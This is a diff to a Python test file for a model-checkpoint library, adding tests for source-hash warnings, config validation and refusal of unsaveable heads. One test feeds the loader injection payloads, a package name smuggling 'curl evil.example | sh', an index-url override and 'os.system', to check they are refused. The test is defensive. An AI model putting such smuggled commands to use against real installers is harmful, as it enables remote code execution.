@@ -10,6 +10,7 @@ from safetensors.torch import load_file, save_file
 import zoo
 from zoo.checkpoints import only_device
 from zoo.errors import CheckpointError
+from zoo.fingerprint import source_sha256
 
 TEXTS = ["가 나 다", "라", "마 바 사 아 자 차 카 타 파 하"]
 
@@ -237,16 +238,135 @@ def test_another_version_of_a_plugin_is_a_warning(saved):
     ]
 
 
-def test_a_component_of_main_is_refused_before_anything_is_written(tiny_bert, tmp_path):
-    classifier = zoo.build(f"hf:{tiny_bert}", "linear", num_labels=2)
-    classifier.config.head["target"] = "__main__:Mine"
+def test_another_source_of_the_same_version_is_a_warning(saved):
+    rewrite_config(saved, lambda values: values["head"].update(source_sha256="0" * 64))
+    with pytest.warns(UserWarning) as warned:
+        zoo.load(saved)
+    assert [str(one.message) for one in warned] == [
+        f"head 'bilstm' was saved with intentzoo {zoo.__version__}, whose source has changed since"
+    ]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda record: record.pop("source_sha256"),
+        lambda record: record.update(source_sha256=None),
+    ],
+)
+def test_a_record_without_a_hash_says_nothing(saved, change):
+    rewrite_config(saved, lambda values: change(values["head"]))
+    zoo.load(saved)
+
+
+@pytest.mark.parametrize("change", [{"version": "9.9"}, {"source_sha256": "0" * 64}])
+def test_saving_again_names_what_it_runs_on_now(saved, classifier, tmp_path, change):
+    rewrite_config(saved, lambda values: values["head"].update(change))
+    with pytest.warns(UserWarning):
+        loaded = zoo.load(saved)
+    loaded.save_pretrained(tmp_path / "again")
+    assert zoo.load(tmp_path / "again").config.head == classifier.config.head
+
+
+def test_both_components_are_saved_with_all_that_finds_them_again(saved):
+    values = json.loads((saved / "config.json").read_text("utf-8"))
+    for kind, target in (
+        ("encoder", "zoo.transformers_encoder:TransformersEncoder"),
+        ("head", "zoo_heads.bilstm:BiLSTM"),
+    ):
+        record = values[kind]
+        assert (record["distribution"], record["version"]) == ("intentzoo", zoo.__version__)
+        assert (record["target"], record["options"]) == (target, {})
+        assert record["source_sha256"] == source_sha256(target)
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("distribution", "zoo-crf'; curl evil.example | sh; '"),
+        ("version", "1.0' --index-url evil.example '"),
+        ("name", 3),
+        ("target", "os.system"),
+        ("options", [1]),
+    ],
+)
+def test_a_record_that_is_none_is_refused_and_never_becomes_a_command(saved, key, value):
+    rewrite_config(saved, lambda values: values["head"].update({key: value}))
+    assert refusal(saved) == (
+        f"config.json: the record of the head has {value!r} where its {key} is due"
+    )
+
+
+MAIN = """
+import torch, zoo
+from zoo.errors import CheckpointError
+
+class Mine(torch.nn.Module):
+    def __init__(self, hidden_size, num_labels):
+        super().__init__()
+        self.output = torch.nn.Linear(hidden_size, num_labels)
+
+    def forward(self, hidden, attention_mask):
+        return self.output(hidden[:, 0])
+
+def swapped():
+    classifier = zoo.build({encoder!r}, "linear", num_labels=2)
+    classifier.head = Mine(16, 2)
+    return classifier
+
+for classifier in (zoo.build({encoder!r}, "mine", num_labels=2), swapped()):
+    try:
+        classifier.save_pretrained({folder!r})
+    except CheckpointError as error:
+        print(error)
+"""
+
+
+@pytest.mark.slow
+def test_a_component_of_main_is_refused_before_anything_is_written(
+    write_distribution, tiny_bert, run_python, site, tmp_path
+):
+    manifest = (
+        "import zoo\n\n@zoo.hookimpl\ndef zoo_heads():\n"
+        "    yield zoo.HeadSpec(name='mine', target='__main__:Mine', description='-')\n"
+    )
+    write_distribution("zoo-mine", modules={"zoo_mine.py": manifest})
+    folder = tmp_path / "saved"
+    script = MAIN.format(encoder=f"hf:{tiny_bert}", folder=str(folder))
+    finished = run_python(script, PYTHONPATH=str(site))
+    assert finished.stdout == 2 * (
+        "the head Mine is defined in __main__, a script or a notebook, where no other process finds "
+        "it: move its class into a module, name it in a plugin (`zoo new head NAME` begins one), "
+        "and build again\n"
+    ), finished.stderr
+    assert not folder.exists()
+
+
+class Other(torch.nn.Linear):
+    """Any module of a test."""
+
+
+def test_a_component_that_was_put_in_the_place_of_another_is_refused(make_classifier, tmp_path):
+    classifier = make_classifier("linear")
+    classifier.head = Other(16, 2)
     with pytest.raises(CheckpointError) as error:
         classifier.save_pretrained(tmp_path / "saved")
     assert str(error.value) == (
-        "head 'linear' is defined in __main__, where no other process finds it: move its class into "
-        "a module, name it in a plugin, and build again"
+        f"the head is a {Other.__module__}:Other, but the classifier was built with 'linear', which "
+        "is zoo_heads.linear:Linear: name its class in a plugin, and build with that name"
     )
     assert not (tmp_path / "saved").exists()
+
+
+def test_an_option_that_json_cannot_hold_is_refused(make_classifier, tmp_path):
+    classifier = make_classifier("mlp")
+    classifier.config.head["options"]["dropout"] = torch.float32
+    with pytest.raises(CheckpointError) as error:
+        classifier.save_pretrained(tmp_path / "saved")
+    assert str(error.value) == (
+        "head 'mlp': its option dropout is torch.float32, which no JSON can hold; let the class "
+        "take text or numbers for it"
+    )
 
 
 def test_uploading_halfway_through_saving_is_refused(classifier, tmp_path):
